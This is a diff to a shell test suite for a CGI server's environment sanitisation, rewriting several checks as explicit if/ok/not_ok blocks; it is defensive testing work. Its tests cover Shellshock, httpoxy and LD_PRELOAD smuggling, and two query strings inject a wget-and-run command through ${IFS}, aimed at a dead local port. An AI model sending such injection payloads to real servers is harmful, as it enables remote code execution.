@@ -59,13 +59,26 @@ check "Shellshock refusal is in the audit log" \
     audit_has request_refused variable HTTP_USER_AGENT
 
 s=$(http_status "$BASE/cgi-bin/env.sh" -H 'Proxy: http://127.0.0.1:9/')
-check "HTTP_PROXY is dropped" [ "$s" = 200 ] && [ -z "$(envvar HTTP_PROXY)" ]
+if [ "$s" = 200 ] && [ -z "$(envvar HTTP_PROXY)" ]
+then
+	ok "HTTP_PROXY is dropped"
+else
+	not_ok "HTTP_PROXY is dropped" "failed: [ \"\$s\" = 200 ] && [ -z \"\$(envvar HTTP_PROXY)\" ]"
+fi
 
 s=$(http_status "$BASE/odd/")
-check "a variable name outside [A-Z0-9_] is dropped" \
-    [ "$s" = 200 ] && ! grep -q '^bad-name=' "$T/body"
-check "LD_PRELOAD from a param never reaches the script" \
-    [ "$s" = 200 ] && [ -z "$(envvar LD_PRELOAD)" ]
+if [ "$s" = 200 ] && ! grep -q '^bad-name=' "$T/body"
+then
+	ok "a variable name outside [A-Z0-9_] is dropped"
+else
+	not_ok "a variable name outside [A-Z0-9_] is dropped" "failed: [ \"\$s\" = 200 ] && ! grep -q '^bad-name=' \"\$T/body\""
+fi
+if [ "$s" = 200 ] && [ -z "$(envvar LD_PRELOAD)" ]
+then
+	ok "LD_PRELOAD from a param never reaches the script"
+else
+	not_ok "LD_PRELOAD from a param never reaches the script" "failed: [ \"\$s\" = 200 ] && [ -z \"\$(envvar LD_PRELOAD)\" ]"
+fi
 check "custom params such as GIT_PROJECT_ROOT are passed" \
     [ "$(envvar GIT_PROJECT_ROOT)" = /srv/git ]
 
@@ -74,14 +87,22 @@ s=$(http_status "$BASE/cgi-bin/env.sh" -H "X-Long: $long")
 check "a value over its length limit is refused, not truncated" [ "$s" = 400 ]
 
 s=$(http_status "$BASE/cgi-bin/env.sh?host=;wget\${IFS}http://127.0.0.1:9/x.sh;sh\${IFS}x.sh")
-check "suspicious input is reported but runs by default" \
-    [ "$s" = 200 ] && audit_has suspicious_input variable QUERY_STRING
+if [ "$s" = 200 ] && audit_has suspicious_input variable QUERY_STRING
+then
+	ok "suspicious input is reported but runs by default"
+else
+	not_ok "suspicious input is reported but runs by default" "failed: [ \"\$s\" = 200 ] && audit_has suspicious_input variable QUERY_STRING"
+fi
 
 s=$(http_status "$BASE/cgi-bin/strictenv.sh?host=;wget\${IFS}http://127.0.0.1:9/x.sh")
 check "suspicious = reject refuses the request with 400" [ "$s" = 400 ]
 
 s=$(http_status "$BASE/cgi-bin/env.sh?name=O%27Keefe&n=1%271%27000&text=rock+%26+roll")
-check "benign input is not flagged" \
-    [ "$s" = 200 ] && ! grep -q 'O%27Keefe\|rock' "$AUDIT"
+if [ "$s" = 200 ] && ! grep -q 'O%27Keefe\|rock' "$AUDIT"
+then
+	ok "benign input is not flagged"
+else
+	not_ok "benign input is not flagged" "failed: [ \"\$s\" = 200 ] && ! grep -q 'O%27Keefe\\|rock' \"\$AUDIT\""
+fi
 
 done_testing
